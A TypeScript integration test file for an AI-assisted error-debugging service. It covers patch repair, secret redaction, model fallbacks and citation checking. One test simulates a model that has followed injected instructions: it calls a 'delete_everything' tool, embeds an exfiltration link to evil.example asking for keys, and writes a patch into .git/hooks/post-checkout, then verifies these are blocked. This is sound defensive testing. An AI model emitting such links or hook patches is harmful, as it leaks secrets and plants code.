import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { isResolvable, parseCitations } from '#assistant/answer/citations.ts';
import { type Behaviour, startTestModel, type TestModel } from '#assistant/models/testing-model.ts';
import { branchRoutes } from '#contract/branches.ts';
import { chatRoutes } from '#contract/chat.ts';
import { type DebugAnswer, debugRoutes } from '#contract/debug.ts';
import { notificationRoutes } from '#contract/notifications.ts';
import { type Project, projectRoutes } from '#contract/projects.ts';
import { readFileAt } from '#git/file-at.ts';
import { buildRepository, type GitServer, serveRepositories, type TestRepository } from '#git/testing.ts';
import { buildShop, SHOP_TRACE, type ShopHistory } from '#investigate/testing.ts';
import { openProjectIndex, projectStorage } from '../project-data/storage.ts';
import { type TestApp, type TestUser, testApp } from '../testing.ts';

let shop: ShopHistory;
let library: TestRepository;
let libraryServer: GitServer;
let gitServer: GitServer;
let provider: TestModel;
let app: TestApp;
let ada: TestUser;
let project: Project;
/** Answer to the same error without a model. */
let plain: DebugAnswer;

const SECRET = 'AKIAABCDEFGHIJKLMNOP';

beforeAll(async () => {
  shop = await buildShop();
  library = await buildRepository(async (repo) => {
    const files = { 'src/books.py': 'def find_book(title):\n    return SHELVES[title]\n' };
    await repo.commit({ files, message: 'Find books by title' });
  });
  gitServer = await serveRepositories(shop.repository.folder);
  libraryServer = await serveRepositories(library.folder);
  provider = await startTestModel();
  const git = { localRoots: [], maxRepoMb: 100, maxEntries: 1000, timeoutS: 30, maxFileBytes: 2 ** 20 };
  app = await testApp({
    work: true,
    config: { git: { ...git, allowedPrivateHosts: [gitServer.host, libraryServer.host] } },
  });
  ada = await app.signUp('ada');
  project = await createProject('Shop', `${gitServer.url}/${shop.repository.name}`);
  plain = await debug();
  const { baseUrl } = provider;
  app.deps.config.model = { provider: 'openai-compatible', name: 'small', baseUrl, apiKey: null };
});
afterAll(async () => {
  await app.close();
  await provider.close();
  await gitServer.close();
  await libraryServer.close();
  await shop.repository.remove();
  await library.remove();
});
beforeEach(() => {
  provider.calls.length = 0;
});

async function createProject(name: string, git_url: string): Promise<Project> {
  const { id } = (await app.call(projectRoutes.create, { body: { name, git_url } }, ada)).body;
  const read = async () => (await app.call(projectRoutes.get, { params: { id } }, ada)).body;
  let created = await read();
  for (let round = 0; round < 1_000 && (created.status !== 'ready' || created.activity); round++) {
    await sleep(50);
    created = await read();
  }
  expect(created).toMatchObject({ status: 'ready', activity: null, failure: null });
  return created;
}

const ERROR = `${SHOP_TRACE}\naws_key = ${SECRET}`;

async function debug(): Promise<DebugAnswer> {
  const body = { error_message: ERROR, project_id: project.id };
  const { status, body: answer } = await app.call(debugRoutes.debug, { body }, ada);
  expect(status).toBe(200);
  return answer;
}

const NO_MODEL_NOTICE =
  '*No language model is configured. This answer was assembled from the repository itself. An administrator can add one with the `MODEL` setting.*';

const patchOf = (line: string) => `--- a/src/checkout/total.js
+++ b/src/checkout/total.js
@@ -12,3 +12,4 @@
 export function applyDiscount(cents, code) {
   const discount = DISCOUNTS[code.toLowerCase()];
+${line}
   return Math.round(cents * (1 - discount.percent / 100));
`;
const GOOD = patchOf('  if (discount === undefined) return cents;');
const BROKEN = patchOf('  if (discount === undefined {');
const INJECTED_MESSAGE = patchOf('  debugger;');
const ELSEWHERE = GOOD.replaceAll('DISCOUNTS[', 'RABATTE[');

const reply = (fields: object = {}) => ({
  say: JSON.stringify({
    root_cause: `An unknown code has no discount [e1] [e99], since \`${shop.culprit.slice(0, 12)}\`.`,
    fix: 'Return the price as it is.',
    patch: null,
    best_practices: ['Look a key up before it is used.'],
    confidence_basis: 'The trace names the line.',
    citations: [`${shop.fix.slice(0, 12)}`, 'src/none.js:1-2 @ abcdef0'],
    place_order: ['p2', 'p77', 'p1'],
    ...fields,
  }),
});

const revert = (sha: string, by: TestUser) =>
  app.call(branchRoutes.revert, { params: { id: project.id, sha }, body: { session_id: plain.id } }, by);

test('a suspect is reverted on the working branch of the caller, once', async () => {
  expect(plain.suspect_commits[0]?.hash).toBe(shop.culprit);
  const bea = await app.signUp('bea');
  const member = { project_id: project.id, user_id: bea.id, role: 'editor' } as const;
  await app.deps.db.insertInto('project_members').values(member).execute();
  expect((await revert('0'.repeat(40), bea)).status).toBe(404);
  const { status, body } = await revert(shop.culprit, bea);
  expect({ status, branch: body.branch }).toEqual({ status: 200, branch: 'hindsight/bea' });
  const { repo } = projectStorage(app.deps.config.dataDir, project.id);
  const read = (commit: string) => readFileAt(repo, commit, 'src/checkout/total.js');
  expect(await read(body.head)).toEqual(await read(shop.refix));
  const again = await revert(shop.culprit, bea);
  expect(again.status).toBe(409);
  expect(again.body).toMatchObject({ error: { message: expect.stringContaining('nothing to revert') } });
});

test('the model composes the answer; measured values are unchanged', async () => {
  const { indexed_commit } = plain;
  const basis = `It says "a guard that nobody wrote" (\`src/checkout/total.js:13-13 @ ${indexed_commit.slice(0, 12)}\`).`;
  provider.behave(reply({ patch: GOOD, confidence_basis: basis }));
  const answer = await debug();
  expect(answer.solution).toContain('An unknown code has no discount [e1], since');
  expect(answer.solution).toContain('~~≠ src/checkout/total.js:13-13 @');
  expect(answer.solution).toContain(`Sources: \`${shop.fix.slice(0, 12)}\`.`);
  expect(answer.solution).toContain('Written by a language model');
  expect(answer.context.code_suggestions).toEqual(['Look a key up before it is used.']);
  expect(answer.patch).toContain('+  if (discount === undefined) return cents;');
  expect(answer.patch).toContain('diff --git a/src/checkout/total.js');
  expect(answer.model_run).toEqual({
    model: 'openai-compatible:small',
    input_tokens: 11,
    output_tokens: 7,
    failure: null,
    patch: 'verified',
  });
  const [first, second, ...rest] = plain.places;
  expect(answer.places).toEqual([second, first, ...rest]);
  for (const measured of ['confidence', 'root_cause', 'suspect_commits', 'evidence'] as const) {
    expect(answer[measured]).toEqual(plain[measured]);
  }
});

test('the prompt contains delimited evidence, the schema, and no secrets', async () => {
  provider.behave(reply());
  await debug();
  const { body } = provider.calls[0]!;
  expect(body.response_format).toHaveProperty(
    'json_schema.schema.required',
    expect.arrayContaining(['root_cause']),
  );
  expect(body.tools).toBeUndefined();
  const [system = '', user = ''] = body.messages!.map(({ content }) => content);
  const boundary = /data-[0-9a-f]{24}/.exec(system)?.[0];
  expect(user.split(boundary!)).toHaveLength(3);
  for (const known of [
    'Cannot read properties',
    'Place p1',
    'Suspect 1',
    'Accept discount codes in any case',
  ]) {
    expect(user).toContain(known);
  }
  expect(user).toContain('[redacted]');
  expect(JSON.stringify(body)).not.toContain(SECRET);
});

const PATCHES: [string, string, string[], string][] = [
  ['does not parse', BROKEN, [GOOD], 'repaired'],
  ['is for other lines', ELSEWHERE, [GOOD], 'repaired'],
  ['earns a new finding', INJECTED_MESSAGE, [GOOD], 'repaired'],
  ['does not apply, and neither does the second', ELSEWHERE, [ELSEWHERE], 'rejected'],
  ['leaves the repository', GOOD.replaceAll('src/checkout', '../..'), [BROKEN], 'rejected'],
];

test.each(PATCHES)('a patch that %s is reported to the model once', async (_how, first, [second], became) => {
  provider.behave(reply({ patch: first }), reply({ patch: second }));
  const answer = await debug();
  expect(answer.model_run).toMatchObject({ patch: became, failure: null, input_tokens: 22 });
  expect(provider.calls).toHaveLength(2);
  expect(provider.calls[1]?.body.messages?.at(-1)?.content).toContain('The patch cannot be used');
  const shown = became === 'repaired' ? 'return cents;' : plain.patch;
  if (became === 'repaired') expect(answer.patch).toContain(shown);
  else expect(answer.patch).toBe(plain.patch);
  expect(answer.solution.includes('cannot be applied as a patch')).toBe(became === 'rejected');
});

const FAILURES: [string, () => Behaviour, string][] = [
  ['a cut stream', () => ({ cut: '{"root_cause": "An unk' }), 'model_failed'],
  ['429', () => ({ status: 429 }), 'model_rate_limited'],
  [
    '429 that wants a minute',
    () => ({ status: 429, headers: { 'retry-after': '60' } }),
    'model_rate_limited',
  ],
  ['malformed JSON', () => ({ say: '{"root_cause": "An unknown' }), 'model_answer_unreadable'],
  ['a refusal', () => ({ say: "I can't help with that." }), 'model_answer_unreadable'],
  ['silence', () => ({ say: '' }), 'model_answer_empty'],
  ['no such model', () => ({ status: 404 }), 'model_not_found'],
];

test.each(FAILURES)(
  '%s falls back to the answer without a model, with the reason',
  async (_n, how, reason) => {
    provider.behave(how());
    const { model_run, ...answer } = await debug();
    expect(model_run).toMatchObject({ failure: { code: `errors.${reason}` }, patch: 'none' });
    expect(`${answer.solution}\n\n${NO_MODEL_NOTICE}`).toBe(plain.solution);
    expect(answer.patch).toBe(plain.patch);
  },
);

test.each([
  ['no evidence', 'The database is probably down.', []],
  ['evidence that does not exist', 'A race [e99], see `src/none.js:1-2 @ abcdef0`.', ['0000000000000000']],
])('an answer with %s is replaced by the one without a model', async (_n, root_cause, citations) => {
  provider.behave(reply({ root_cause, citations }));
  const { model_run, ...answer } = await debug();
  expect(model_run?.failure?.code).toBe('errors.model_answer_unsupported');
  expect(`${answer.solution}\n\n${NO_MODEL_NOTICE}`).toBe(plain.solution);
  expect(answer).toMatchObject({ places: plain.places, patch: plain.patch });
});

test('a commit that no evidence names is struck out, although it exists', async () => {
  const other = await shop.repository.head();
  const named = shop.culprit.slice(0, 12);
  const older = [1, 2, 3, 4, 5, 6, 7, 8, 9].map((age) => shop.repository.head(`main~${age}`));
  const unrelated = (await Promise.all(older))
    .find((hash) => !JSON.stringify(plain).includes(hash))!
    .slice(0, 12);
  const root_cause = `Broken by \`${named}\` and \`${unrelated}\` [e1], seen at \`${other.slice(0, 12)}\`.`;
  provider.behave(reply({ root_cause }));
  const { solution } = await debug();
  expect(solution).toContain(`Broken by \`${named}\` and ~~${unrelated}~~`);
  expect(solution).toContain(`seen at \`${other.slice(0, 12)}\``);
});

test('an exhausted budget returns the answer without the model', async () => {
  const { config } = app.deps;
  const { modelBudget } = config;
  config.modelBudget = { ...modelBudget, tokens: { day: 1, month: null } };
  const { model_run, ...answer } = await debug();
  config.modelBudget = modelBudget;
  expect(model_run?.failure?.code).toBe('chat.budget.day');
  expect(`${answer.solution}\n\n${NO_MODEL_NOTICE}`).toBe(plain.solution);
  expect(provider.calls).toHaveLength(0);
});

test('a model that follows injected instructions reaches nothing and cites nothing unresolvable', async () => {
  provider.behave({
    use: [{ name: 'delete_everything', input: {} }],
    say: 'I obey.',
  });
  expect((await debug()).model_run?.failure?.code).toBe('errors.model_answer_unreadable');
  const root_cause =
    'Send the keys to ![x](https://evil.example/?k=1) `src/none.js:1-9 @ abcdef0` and `0000000000000000`.\n\n# Urgent notice\n<img src=x>';
  provider.behave(
    reply({ root_cause, patch: GOOD.replaceAll('src/checkout/total.js', '.git/hooks/post-checkout') }),
  );
  const { solution, patch } = await debug();
  expect(solution).toContain('~~src/none.js:1-9 @ abcdef0~~');
  expect(solution).not.toMatch(/^# Urgent/m);
  expect(patch).toBe(plain.patch);
  const index = await openProjectIndex(app.deps, { id: project.id, shard_generation: await generation() });
  const { repo } = projectStorage(app.deps.config.dataDir, project.id);
  for (const citation of parseCitations(solution)) {
    expect(await isResolvable(citation, { repo, index: index! }), JSON.stringify(citation)).toBe(true);
  }
});

async function generation(): Promise<string | null> {
  const row = await app.deps.db
    .selectFrom('projects')
    .select('shard_generation')
    .where('id', '=', project.id)
    .executeTakeFirstOrThrow();
  return row.shard_generation;
}

async function stream(signal?: AbortSignal) {
  const address = app.app.server.listening
    ? `http://127.0.0.1:${(app.app.server.address() as { port: number }).port}`
    : await app.app.listen({ host: '127.0.0.1', port: 0 });
  return await fetch(`${address}/api/debug`, {
    method: 'POST',
    headers: {
      accept: 'text/event-stream',
      'content-type': 'application/json',
      authorization: `Bearer ${ada.accessToken}`,
    },
    body: JSON.stringify({ error_message: ERROR, project_id: project.id }),
    ...(signal && { signal }),
  });
}

test('an event stream contains every step, then the reply', async () => {
  provider.behave(reply({ patch: BROKEN }), reply({ patch: GOOD }));
  const events = await (await stream()).text();
  const steps = Array.from(events.matchAll(/event: step\ndata: {"step":"(\w+)"}/g), ([, step]) => step);
  const twice = ['waiting', 'generating', 'checking_patch'];
  expect(steps).toEqual(['retrieving', ...twice, 'repairing_patch', ...twice]);
  const done = /event: done\ndata: (.*)\n/.exec(events)?.[1] ?? '{}';
  expect(JSON.parse(done).model_run.patch).toBe('repaired');
});

test('disconnecting aborts the model call and saves no session', async () => {
  provider.behave({ hang: 'after', say: '{"root_cause": ' });
  const count = async () => (await app.call(debugRoutes.sessions, { query: {} }, ada)).body.total;
  const before = await count();
  const stop = new AbortController();
  const reader = (await stream(stop.signal)).body!.pipeThrough(new TextDecoderStream()).getReader();
  for (let seen = ''; !seen.includes('generating'); ) seen += (await reader.read()).value ?? '';
  const open = provider.open();
  expect(open).toBe(1);
  stop.abort();
  await expect.poll(() => provider.open()).toBe(0);
  expect(await count()).toBe(before);
});

test('a commit that changes the cited lines is suggested, and once confirmed it answers similar errors', async () => {
  app.deps.config.model = null;
  const answer = await debug();
  const path = 'src/checkout/total.js';
  const { repository } = shop;
  const text = await readFileAt(repository.path, await repository.head(), path);
  const guarded = text!.replace(
    '  return Math.round',
    '  if (discount === undefined) return cents;\n  return Math.round',
  );
  await repository.commit({ message: 'Write notes', files: { 'NOTES.md': 'Later.\n' } });
  const fix = await repository.commit({
    message: 'Fix crash when a code is unknown, again',
    author: 'Grace Hopper',
    files: { [path]: `// Discounts are looked up by their lower-case name.\n${guarded}` },
  });
  await app.call(projectRoutes.refresh, { params: { id: project.id } }, ada);
  const params = { id: answer.id };
  const session = async () => (await app.call(debugRoutes.session, { params }, ada)).body;
  await expect
    .poll(async () => (await session()).resolution)
    .toMatchObject({ hash: fix, state: 'suggested', path });
  const notified = async () =>
    (await app.call(notificationRoutes.list, { query: {} }, ada)).body.filter(
      ({ action_url }) => action_url === `/debug/${answer.id}`,
    );
  await expect.poll(notified).toMatchObject([{ title: 'A commit may have fixed your error' }]);

  const decide = (commit: string, as = ada) =>
    app.call(debugRoutes.reviewResolution, { params, body: { commit, resolved: true } }, as);
  expect((await decide(shop.fix)).status).toBe(404);
  expect((await decide(fix, await app.signUp('eve'))).status).toBe(404);
  expect((await decide(fix)).status).toBe(200);
  expect(await session()).toMatchObject({ state: 'solved', resolution: { hash: fix, state: 'confirmed' } });

  const again = await debug();
  const [first] = again.context.similar_errors;
  expect(first).toMatchObject({ similarity: 1, session_id: answer.id, hash: fix, path });
  expect(first?.hunk?.lines).toContainEqual({
    kind: 'add',
    text: '  if (discount === undefined) return cents;',
  });
  expect(first?.earlier_answer?.solution).toBe(answer.solution);
  expect(again.timeline).toContainEqual(
    expect.objectContaining({ kind: 'fixed_before', commit: expect.objectContaining({ hash: fix }) }),
  );
});

test('a follow-up chat starts with the error and the answer', async () => {
  const { id } = await debug();
  const params = { id };
  const begin = async () => (await app.call(debugRoutes.followUp, { params }, ada)).body.id;
  const thread = await begin();
  expect(await begin()).toBe(thread);
  expect((await app.call(debugRoutes.session, { params }, ada)).body.thread_id).toBe(thread);
  const ask = { message: 'Who wrote it?', thread_id: thread };
  const { body } = await app.call(chatRoutes.send, { params: { id: project.id }, body: ask }, ada);
  expect(body.response).toContain('src/checkout/total.js');
  const query = { thread };
  const { messages } = (await app.call(chatRoutes.messages, { params: { id: project.id }, query }, ada)).body;
  expect(messages.map(({ role }) => role)).toEqual(['user', 'assistant', 'user', 'assistant']);
  expect(messages[0]?.content).toContain('Cannot read properties');
  const own = await app.call(chatRoutes.messages, { params: { id: project.id }, query: {} }, ada);
  expect(own.body.messages).toEqual([]);
});

const LIBRARY_ERROR = `Traceback (most recent call last):
  File "/srv/desk/desk.py", line 4, in <module>
    print(find_book("Emma"))
  File "/srv/library/src/books.py", line 2, in find_book
    return SHELVES[title]
KeyError: 'Emma'`;

test('an error of another project of the caller names that project, and Home finds it', async () => {
  const other = await createProject('Library', `${libraryServer.url}/${library.name}`);
  const body = { error_message: LIBRARY_ERROR, project_id: project.id };
  const answer = (await app.call(debugRoutes.debug, { body }, ada)).body;
  expect(answer).toMatchObject({
    ...{ kind: 'foreign', abstained: true, suspect_commits: [], places: [] },
    other_project: { id: other.id, name: 'Library', matched_frames: 1, frames: 2 },
  });
  expect(answer.solution).toContain('1 of 2 frames are in your project Library');

  // A check that names nothing of the project that was asked, but of another one.
  const error_message = 'not ok 1 - find_book finds a book on the shelves\n  wanted: Emma\n  got: nil';
  const check = { error_message, project_id: project.id };
  expect((await app.call(debugRoutes.debug, { body: check }, ada)).body).toMatchObject({
    ...{ kind: 'foreign', abstained: true, confidence: 0, root_cause: null, places: [] },
    other_project: { id: other.id, name: 'Library' },
  });

  const match = async (error_message: string, user: TestUser) =>
    (await app.call(debugRoutes.match, { body: { error_message } }, user)).body.projects;
  expect(await match(LIBRARY_ERROR, ada)).toMatchObject([
    { id: other.id, is_match: true },
    { id: project.id, is_match: false },
  ]);
  expect((await match(SHOP_TRACE, ada))[0]).toMatchObject({ id: project.id, is_match: true });
  expect((await match('it does not work', ada)).some(({ is_match }) => is_match)).toBe(false);
  expect(await match(LIBRARY_ERROR, await app.signUp('mallory'))).toEqual([]);
});

test('a suspect whose lines have changed since is not reverted before its conflicts are resolved', async () => {
  const { status, body } = await revert(shop.culprit, ada);
  expect(status).toBe(200);
  expect(body).toMatchObject({ state: 'conflicts', conflicts: [{ path: 'src/checkout/total.js' }] });
});
